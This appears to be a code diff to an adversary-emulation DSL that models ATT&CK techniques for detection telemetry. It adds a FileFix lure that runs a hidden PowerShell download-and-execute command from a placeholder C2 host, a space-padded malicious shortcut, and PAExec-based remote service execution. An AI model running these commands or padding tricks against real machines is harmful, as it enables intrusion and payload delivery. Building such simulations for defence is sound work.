@@ -3,6 +3,9 @@ import { remoteLogon, t, v } from "../dsl";
 const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
 const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
 
+/** Spaces that push the real command out of sight in a dialog or address bar. */
+const FILEFIX_PAD = " ".repeat(60);
+
 /** Execution: interpreters, WMI, services and user execution as real intrusions chain them. (continued) */
 export const executionB = [
   t("T1053.002", "At", "at.exe jobs and Impacket atexec, both registered over the ATSVC interface.", [
@@ -33,6 +36,7 @@ export const executionB = [
               trigger: "once",
               runAs: "@system",
               runLevel: "HighestAvailable",
+              session: "atx",
             },
             { id: "run", kind: "task.run", name: "\\{{$task}}", spawn: "atcmd" },
             {
@@ -46,7 +50,7 @@ export const executionB = [
             { id: "out", kind: "file.create", proc: "atcmd", path: "C:\\Windows\\Temp\\{{$task}}.tmp" },
             { id: "end1", kind: "process.terminate", proc: "atchild" },
             { id: "end", kind: "process.terminate", proc: "atcmd" },
-            { id: "del", kind: "task.delete", name: "\\{{$task}}" },
+            { id: "del", kind: "task.delete", name: "\\{{$task}}", session: "atx" },
             {
               id: "get",
               kind: "share.access",
@@ -103,6 +107,29 @@ export const executionB = [
     ),
   ]),
   t("T1204", "User execution", "The user double-clicks a lure from Downloads.", [
+    // FileFix (2025, Interlock and others): a fake "open this file" page has the user paste a command, padded
+    // behind a fake path, into the Explorer address bar; Explorer runs it and records it under TypedPaths.
+    v(
+      "filefix",
+      [
+        {
+          by: "@explorer",
+          reg: [
+            [
+              "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths",
+              "url1",
+              `powershell -w h -c "iex(iwr https://{{c2}}/{{rand}})" ${FILEFIX_PAD}# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`,
+            ],
+          ],
+        },
+        {
+          cmd: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -c "iex(iwr https://{{c2}}/{{rand}})" ${FILEFIX_PAD}# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`,
+          parent: "@explorer",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
     v(
       "exe",
       [
@@ -113,6 +140,20 @@ export const executionB = [
         },
       ],
       { shell: "none" },
+    ),
+    // A shortcut in a mailed ZIP/ISO whose target is padded with spaces so the Properties dialog hides the
+    // command; it starts the DLL shipped next to it.
+    v(
+      "lnk-padded",
+      [
+        {
+          cmd: `C:\\Windows\\System32\\cmd.exe ${FILEFIX_PAD}/c start /min rundll32.exe {{rand}}.dll,{{$entry}}`,
+          parent: "@explorer",
+          as: "c",
+        },
+        { cmd: "rundll32.exe {{rand}}.dll,{{$entry}}", parent: "c", net: [["{{c2}}", 443]] },
+      ],
+      { shell: "none", vars: { entry: "{{DllRegisterServer|Wind|RunDLL}}" } },
     ),
   ]),
   t("T1204.001", "Malicious link", "A link opened in the browser downloads a script the user runs.", [
@@ -239,7 +280,63 @@ export const executionB = [
   t("T1569", "System services", "A service created and started to run a payload.", [
     v(
       "sc",
-      ['sc create {{name}} binPath= "C:\\Windows\\Temp\\{{rand}}.exe" start= demand', "sc start {{name}}"],
+      [
+        {
+          cmd: 'sc create {{name}} binPath= "C:\\Windows\\Temp\\{{rand}}.exe" start= demand',
+          then: [
+            {
+              id: "svc",
+              kind: "service.install",
+              proc: "@services",
+              name: "{{name}}",
+              imagePath: "C:\\Windows\\Temp\\{{rand}}.exe",
+            },
+          ],
+        },
+        "sc start {{name}}",
+      ],
+      { elevated: true },
+    ),
+    // PAExec (the redistributable PsExec clone ransomware crews carry): it copies itself to ADMIN$ as
+    // PAExec-<pid>-<host>.exe, installs that as a service and relays the command over \PAExec-* pipes.
+    v(
+      "paexec",
+      [
+        {
+          cmd: "{{tools}}\\paexec.exe \\\\{{srv}} -u {{domain}}\\{{admin}} -p ******** -s -d C:\\ProgramData\\{{rand}}.exe",
+          net: [["@server", 445]],
+          then: [
+            ...remoteLogon("pa"),
+            {
+              id: "up",
+              kind: "share.access",
+              host: "@server",
+              session: "pa",
+              share: "ADMIN$",
+              relativeTarget: "PAExec-{{n}}-{{me}}.exe",
+              accessMask: "0x2",
+            },
+            {
+              id: "svc",
+              kind: "service.install",
+              host: "@server",
+              proc: "@services",
+              session: "pa",
+              name: "PAExec-{{n}}-{{me}}",
+              imagePath: "%SystemRoot%\\PAExec-{{n}}-{{me}}.exe -service",
+            },
+          ],
+        },
+        {
+          cmd: "C:\\Windows\\PAExec-{{n}}-{{me}}.exe -service",
+          host: "@server",
+          parent: "@services",
+          user: "@system",
+          as: "pas",
+          pipes: ["\\PAExec-{{n}}-{{me}}"],
+        },
+        { cmd: "C:\\ProgramData\\{{rand}}.exe", host: "@server", parent: "pas", user: "@system", keep: true },
+      ],
       { elevated: true },
     ),
   ]),
